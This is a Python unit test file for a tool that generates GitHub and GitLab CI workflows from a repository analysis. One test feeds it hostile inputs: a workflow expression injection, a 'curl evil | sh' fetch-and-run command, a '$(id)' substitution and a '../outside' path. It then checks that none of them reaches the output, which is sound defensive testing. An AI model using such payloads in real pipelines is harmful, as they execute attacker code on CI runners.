from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

import msgspec
import pytest

from libs.analysis.report import Check, Fact, Pipeline, Report, Score, Stack, Subproject
from libs.cigen import NothingToGenerate, UnknownPlatform, generate
from libs.cigen.rescore import in_tree_copy
from libs.cigen.validate.schema import parse_yaml
from tests.unit.cigen.reports import (
    EXISTING_CI,
    MONOREPO,
    NODE_NPM,
    PYTHON_PIP,
    report,
    sub,
)


def test_a_repository_without_ci_gets_ci_yml() -> None:
    generation = generate(PYTHON_PIP)
    assert (generation.path, generation.proposal, generation.platform) == (
        ".github/workflows/ci.yml",
        False,
        "github",
    )
    assert generation.explanation == [
        "Runs 1 job(s): Python on python 3.12.4. "
        "Scans the code for vulnerabilities with CodeQL (python, actions)."
    ]


def test_code_scanning_is_the_only_job_that_writes_and_can_be_left_out() -> None:
    workflow = parse_yaml(generate(MONOREPO).content)
    writers = {
        name: job["permissions"] for name, job in workflow["jobs"].items() if "permissions" in job
    }
    assert writers == {
        "codeql": {"actions": "read", "contents": "read", "security-events": "write"}
    }
    languages = [e["language"] for e in workflow["jobs"]["codeql"]["strategy"]["matrix"]["include"]]
    assert languages == ["python", "javascript-typescript", "go", "rust", "actions"]
    without = generate(MONOREPO, code_scanning=False)
    assert without.valid
    assert "codeql" not in parse_yaml(without.content)["jobs"]
    assert not any("CodeQL" in note for note in without.notes)
    gitlab = parse_yaml(generate(MONOREPO, platform="gitlab").content)
    assert gitlab["include"] == [{"template": "Jobs/SAST.gitlab-ci.yml"}]


def test_existing_workflows_get_a_proposal_beside_them_that_says_what_it_fixes() -> None:
    generation = generate(EXISTING_CI)
    assert generation.path == ".github/workflows/autodevops-ci.yml"
    assert generation.proposal
    assert generation.valid
    assert generation.explanation == [
        "A proposal beside .github/workflows/ci.yml, .github/workflows/release.yml: "
        "nothing existing was changed.",
        "Runs 1 job(s): Node.js on node 22, 24. "
        "Scans the code for vulnerabilities with CodeQL (javascript-typescript, actions).",
        "It adds the configured linters, which no existing pipeline runs.",
        "It adds a build, which no existing pipeline runs.",
        "It adds dependency caching keyed on the lockfiles.",
        "It pins every action to a vetted commit SHA (2 unpinned-uses finding(s) in the "
        "existing workflows).",
        "It checks out without persisting credentials (1 artipacked finding(s) in the "
        "existing workflows).",
    ]


def test_an_earlier_proposal_of_ours_is_replaced_and_said_so() -> None:
    pipelines = [
        Pipeline(system="github_actions", path=".github/workflows/ci.yml"),
        Pipeline(system="github_actions", path=".github/workflows/autodevops-ci.yml"),
    ]
    generation = generate(PYTHON_PIP, existing=pipelines)
    assert generation.path == ".github/workflows/autodevops-ci.yml"
    assert (
        "It replaces the earlier AutoDevOps proposal at .github/workflows/autodevops-ci.yml."
        in (generation.explanation)
    )


def test_ci_on_another_system_is_respected_but_not_in_the_way() -> None:
    travis = [Pipeline(system="travis", path=".travis.yml", runs_tests=True)]
    generation = generate(PYTHON_PIP, existing=travis)
    assert (generation.path, generation.proposal) == (".github/workflows/ci.yml", True)
    assert (
        generation.explanation[0] == "A proposal beside .travis.yml: nothing existing was changed."
    )


def test_gitlab_beside_an_existing_pipeline_explains_how_to_include_it() -> None:
    existing = [Pipeline(system="gitlab_ci", path=".gitlab-ci.yml")]
    generation = generate(PYTHON_PIP, platform="gitlab", existing=existing)
    assert (generation.path, generation.proposal) == (".gitlab/autodevops-ci.yml", True)
    assert any("include: .gitlab/autodevops-ci.yml" in line for line in generation.explanation)
    assert "Includes GitLab's SAST jobs for the languages they detect." in generation.explanation[1]
    assert generation.valid


def test_nothing_to_generate_for_a_repository_without_a_stack() -> None:
    with pytest.raises(NothingToGenerate, match="no stack"):
        generate(Report())
    docs_only = Report(stack=Stack(subprojects=[Subproject(path=".", manifests=["mkdocs.yml"])]))
    with pytest.raises(NothingToGenerate):
        generate(docs_only)


def test_an_unknown_platform_is_refused_by_name() -> None:
    with pytest.raises(UnknownPlatform, match="'jenkins': use one of github, gitlab"):
        generate(PYTHON_PIP, platform="jenkins")


def test_decisions_are_reported_as_notes() -> None:
    unsupported = report(
        sub(manifest="pyproject.toml", managers=["pip"], tests=["pytest"]),
        sub("docs", manifest="docs/deno.json", managers=["deno"]),
    )
    notes = generate(unsupported).notes
    assert "the repository root: no python version is declared; using 3.13" in notes
    assert "docs: no CI job for deno; this package manager is not supported yet" in notes
    assert (
        "the repository root: pytest is not in the files the job installs; it is installed "
        "beside the package"
    ) in notes
    monorepo = generate(MONOREPO).notes
    assert (
        "the repository root: tests may need 'kafka' (from docker-compose.yml); "
        "no service container is provisioned for it"
    ) in monorepo
    assert (
        "web/packages/ui is a package of the workspace at web, whose job installs and checks it"
    ) in monorepo


def test_a_tool_that_cannot_run_unconfigured_gets_a_step_only_when_configured() -> None:
    def node(configured: bool, commands: tuple[tuple[str, str], ...] = ()) -> Report:
        project = sub(
            manifest="package.json",
            managers=[("npm", "package-lock.json")],
            lockfiles=["package-lock.json"],
            tests=["vitest"],
            commands=commands,
        )
        project.tools = [
            Fact(name="eslint", source="package.json", configured=configured),
            Fact(name="prettier", source="package.json"),  # runs on its defaults
        ]
        return report(project)

    declared = generate(node(False))
    runs = [s["run"] for s in parse_yaml(declared.content)["jobs"]["node"]["steps"] if "run" in s]
    assert "npx --no-install eslint ." not in runs
    assert "npx --no-install prettier --check ." in runs
    assert (
        "the repository root: no eslint step: package.json declares it, but it has no "
        "configuration and cannot run without one"
    ) in declared.notes
    configured = generate(node(True)).content
    assert "run: npx --no-install eslint ." in configured
    own_script = generate(node(False, (("lint", "npm run lint"),)))
    assert "run: npm run lint" in own_script.content
    assert not any("no eslint step" in note for note in own_script.notes)


def test_the_workflow_runs_each_part_only_when_it_changes() -> None:
    workflow = parse_yaml(generate(MONOREPO).content)
    jobs = workflow["jobs"]
    assert jobs["web"]["if"] == "needs.changes.outputs.web == 'true'"
    assert jobs["python"]["if"] == "needs.changes.outputs.root == 'true'"
    assert "if" not in jobs["docker"]  # built from the root context: every change matters
    assert jobs["docker-web"]["if"] == "needs.changes.outputs.web == 'true'"
    script = jobs["changes"]["steps"][1]["run"]
    assert "echo \"root=$(hit -vE '^(crates/engine|services/worker|web)/')\"" in script
    assert "echo \"services-worker=$(hit -E '^(services/worker)/')\"" in script
    assert "ui" not in jobs  # a workspace package is covered by its workspace's job


HOSTILE = "${{ github.event.issue.title }}"


def test_hostile_report_content_never_reaches_the_workflow() -> None:
    hostile = report(
        sub(
            manifest="package.json",
            managers=[("npm", "package-lock.json", HOSTILE)],
            lockfiles=["package-lock.json", f"x{HOSTILE}/package-lock.json"],
            tests=["jest"],
            runtimes=[("node", HOSTILE, ".nvmrc")],
            commands=[("test", f"echo {HOSTILE}"), ("lint", "npm run lint\ncurl evil | sh")],
            services=[("postgres", "compose.yml", "16$(id)")],
        ),
        sub(f"evil{HOSTILE}", manifest="x/package.json", managers=["npm"]),
        sub("../outside", manifest="../outside/package.json", managers=["npm"]),
        dockerfiles=["Dockerfile with space", f"{HOSTILE}/Dockerfile"],
    )
    for platform in ("github", "gitlab"):
        generation = generate(hostile, platform=platform)
        assert generation.valid, generation.validation.findings
        assert "github.event.issue" not in generation.content
        assert "curl evil" not in generation.content
        assert "$(id)" not in generation.content
        assert "outside" not in generation.content
    notes = generation.notes
    assert any("skipped the test command from package.json" in n for n in notes)
    assert any("skipped a subproject whose path has unusual characters" in n for n in notes)
    assert any("skipped a Dockerfile" in n for n in notes)


def score(overall: int, *checks: tuple[str, str]) -> Report:
    return Report(
        score=Score(overall=overall, band="fair"),
        checks=[
            Check(id=cid, category="security", status=status, weight=1)  # type: ignore[arg-type]
            for cid, status in checks
        ],
    )


def test_an_invalid_generation_is_not_rescored() -> None:
    calls: list[Mapping[str, str]] = []

    def rescore(files: Mapping[str, str]) -> Report:
        calls.append(files)
        return Report()

    generation = generate(PYTHON_PIP, linters=False, rescore=rescore)
    assert not generation.valid
    assert generation.score is None
    assert calls == []


def test_generation_round_trips_as_json_for_storage() -> None:
    generation = generate(NODE_NPM)
    data = msgspec.json.encode(generation)
    assert msgspec.json.decode(data, type=type(generation)) == generation
    assert msgspec.json.decode(data)["validation"]["passed"] is True


def test_a_tree_rescorer_sees_the_new_file_in_a_copy_and_leaves_the_tree_alone(
    tmp_path: Path,
) -> None:
    root = tmp_path / "repo"
    (root / ".github/workflows").mkdir(parents=True)
    (root / ".github/workflows/ci.yml").write_text("name: theirs\n")
    (root / "README.md").write_text("# hi\n")
    (root / "link").symlink_to("README.md")
    seen: dict[str, object] = {}

    def analyse(copy: Path) -> Report:
        seen["workflow"] = (copy / ".github/workflows/ci.yml").read_text()
        seen["readme"] = (copy / "README.md").read_text()
        seen["link"] = (copy / "link").is_symlink()
        return score(80)

    rescorer = in_tree_copy(root, analyse)
    report = rescorer({".github/workflows/ci.yml": "name: ours\n"})
    assert report.score.overall == 80
    assert seen == {"workflow": "name: ours\n", "readme": "# hi\n", "link": True}
    assert (root / ".github/workflows/ci.yml").read_text() == "name: theirs\n"
    with pytest.raises(ValueError, match="not a path inside the repository"):
        rescorer({"../escape.yml": "x"})


def test_services_are_reached_through_ports_on_the_runner_and_by_name_from_containers() -> None:
    runner = parse_yaml(generate(MONOREPO).content)["jobs"]["python"]["env"]
    assert runner["DATABASE_URL"] == "postgresql://postgres:postgres@127.0.0.1:5432/test"
    swift = report(
        sub(
            manifest="Package.swift",
            managers=["swiftpm"],
            tests=["xctest"],
            services=["postgres"],
            runtimes=[("swift", "5.10", ".swift-version")],
        )
    )
    job = parse_yaml(generate(swift).content)["jobs"]["swift"]
    assert job["container"] == "swift:5.10"
    assert job["env"]["DATABASE_URL"] == "postgresql://postgres:postgres@postgres:5432/test"
